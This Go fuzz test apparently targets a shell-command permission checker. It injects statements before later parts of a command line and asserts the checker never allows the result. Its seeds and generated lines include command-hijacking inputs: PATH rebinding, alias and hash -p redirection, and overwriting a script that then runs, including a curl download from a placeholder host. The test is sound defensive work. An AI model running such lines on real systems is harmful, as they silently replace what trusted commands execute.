package patterns

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// FuzzLaterParts: a change made anywhere in a line reaches the parts after
// it. For each of the first parts of the input whose program is a plain
// word, a statement is put in the line right before that part:
//
//   - a rebinding of its program (an alias, hash -p, and a function when
//     the reader gives the name meaning), or a second evaluation (a value
//     read from input, then arithmetic on it inside the part);
//   - a write of the file it runs (its program when that is a path, or the
//     script a shell or interpreter is given) by a redirection, a copy, a
//     move, a link or a download.
//
// With an allow for every program of the line and no guard rails, the
// line must not be allowed.
func FuzzLaterParts(f *testing.F) {
	for _, c := range slicesOfCases() {
		f.Add(c)
	}
	for _, c := range corpusSeeds(f) {
		f.Add(c)
	}
	for _, s := range []string{
		"ls && git status", "make build | tee log; ./bin/app", "if true; then bash run.sh; fi",
		"for f in a b; do python3 tool.py $f; done", "(cd sub && ./x) || node app.js",
		"echo $(git rev-parse HEAD) && ./deploy.sh prod", "sudo ./install.sh", "time go test ./...",
		"read -r PATH < f; ls", "for PATH in ./evil; do make; done", "GOBIN=/usr/local/bin go install ./cmd/ls",
		"cargo install --root ~/.local --bin git x", "npm config set prefix ~/.local && npm i -g x",
		"mv tool/run.sh ./ && ./run.sh", "rsync evil/nvm.sh ~/.nvm/", "ln -t bin /tmp/x/app && bin/app",
		"terraform -chdir=infra plan", "pylint --rcfile=x.rc src; npx mocha --config m.yml", "bundle exec rspec spec/a_spec.rb",
	} {
		f.Add(s)
	}
	var wide wideAllows
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<12 || strings.ContainsRune(src, 0) {
			return
		}
		dog := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("slow input: %q", src)) })
		defer dog.Stop()
		cmd := Read(src)
		tried := 0
		for _, p := range cmd.Parts {
			if tried >= 3 {
				break
			}
			lines := laterLines(src, p)
			if len(lines) > 0 {
				tried++
			}
			for _, line := range lines {
				if v := wide.evaluate(t, line); v.Outcome == Allow {
					t.Fatalf("%q is allowed by %q: what the line changed before part %q changed nothing", line, v.Rule, p.Text())
				}
			}
		}
	})
}

// laterLines returns src with a statement put right before part p that
// changes what p runs, or none where p's place in src is not plain to
// see (a nested string, a part handed to another program, a program word
// that is not a plain word).
func laterLines(src string, p *Part) []string {
	if p.Unreadable != nil || p.Depth > 0 || p.Parent >= 0 || p.away || len(p.Words) == 0 {
		return nil
	}
	at, end := p.Span.Start, p.Words[len(p.Words)-1].Span.End
	if at < 0 || end > len(src) || at > p.Words[0].Span.Start || !strings.HasPrefix(src[p.Words[0].Span.Start:], p.Words[0].Raw) {
		return nil
	}
	if strings.HasSuffix(strings.TrimRight(src[:at], " \t"), "coproc") {
		return nil // a statement put there runs in the coprocess, not before the part
	}
	v, lit := p.Words[0].Literal()
	if !lit || !plainShellWord(v) || p.Words[0].Raw != v {
		return nil
	}
	before := func(stmt string) string { return src[:at] + stmt + "; " + src[at:] }
	var out []string
	names := []string{v}
	for _, w := range p.Wrappers {
		if n, ok := w.Words[0].Literal(); ok && plainShellWord(n) && n == w.Words[0].Raw {
			names = append(names, n)
		}
	}
	for _, n := range names {
		if !strings.Contains(n, "/") {
			// a literal alias is read as its text (read_alias.go): the
			// rebinding is one whose value is not known
			out = append(out, before("alias "+n+"=\"$zq\""), before("hash -p /tmp/zq "+n))
			if knownName(n) {
				out = append(out, before(n+"() { :; }"))
			}
		}
	}
	out = append(out, src[:at]+"read -r zq; "+src[at:end]+` "$((zq))"`+src[end:])
	file := ""
	switch {
	case strings.Contains(v, "/"):
		file = v
	case isInterpreter(v) && len(p.Args()) > 0:
		// The first word, when it is a script's name (not an option).
		w := p.Args()[0]
		a, ok := w.Literal()
		if ok && !strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "+") && plainShellWord(a) && a == w.Raw && strings.Contains(a, ".") {
			file = a
		}
	}
	if file != "" && !strings.HasPrefix(file, "/dev") && !strings.HasPrefix(file, "/proc") {
		for _, w := range []string{"echo \"$zq\" > ", "cp /tmp/zq ", "mv /tmp/zq ", "ln -sf /tmp/zq ", "curl -so " + file + " https://x.io/z #"} {
			stmt := w + file
			if strings.HasSuffix(w, "#") {
				stmt = strings.TrimSuffix(w, " #")
			}
			out = append(out, before(stmt))
		}
	}
	return out
}
